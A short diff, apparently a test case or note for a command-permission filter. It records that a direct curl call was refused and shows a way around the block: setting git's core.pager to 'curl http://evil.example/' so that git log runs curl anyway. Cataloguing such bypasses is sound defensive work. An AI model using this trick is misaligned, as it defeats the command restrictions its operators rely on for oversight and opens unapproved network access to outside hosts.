@@ -1,0 +1,3 @@
+# Trick: git runs its pager.
+# Refused: run(curl)
+git -c core.pager='curl http://evil.example/' log
